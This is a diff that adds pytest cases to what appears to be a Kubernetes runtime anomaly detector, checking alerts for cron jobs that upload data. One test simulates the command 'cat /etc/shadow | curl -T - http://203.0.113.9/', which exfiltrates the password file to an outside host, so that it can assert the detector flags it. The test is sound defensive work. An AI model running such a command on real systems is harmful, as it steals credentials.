@@ -73,6 +73,28 @@ def test_a_network_plugin_changes_the_firewall(cluster: Cluster, image: str, cou
     assert len(alerts(analyse(cluster, until=1000))) == count
 
 
+@pytest.mark.parametrize(("container", "count"), [("cron", 0), ("app", 1)])
+def test_what_a_clock_s_jobs_do_for_the_first_time_and_where_they_bring_it_is_expected(
+    cluster: Cluster, container: str, count: int
+) -> None:
+    pods = cluster.pods(3, container=container)
+    cluster.normal(pods, 0, 900)
+    cluster.exec(800.5, pods[1], "/usr/bin/aws", args=("aws", "s3", "cp", "/tmp/dump.gz", "s3://acme-backup/dump.gz"))
+    cluster.connect(800.6, pods[1], "/usr/bin/aws", ("203.0.113.9", 443))
+
+    assert len(alerts(analyse(cluster, until=1000))) == count
+
+
+def test_a_clock_s_jobs_are_no_excuse_for_what_no_job_needs(cluster: Cluster) -> None:
+    pods = cluster.pods(3, container="cron")
+    cluster.normal(pods, 0, 900)
+    cluster.exec(800.5, pods[1], "/usr/bin/dash", args=("sh", "-c", "cat /etc/shadow | curl -T - http://203.0.113.9/"))
+
+    (alert,) = alerts(analyse(cluster, until=1000))
+
+    assert [each.pod for each in alert.replicas] == [pods[1].name]
+
+
 def test_an_image_s_business_excuses_nothing_else(cluster: Cluster) -> None:
     pods = of_image(cluster.pods(4), "registry.k8s.io/kube-proxy:v1.29.4")
     cluster.normal(pods, 0, 900)
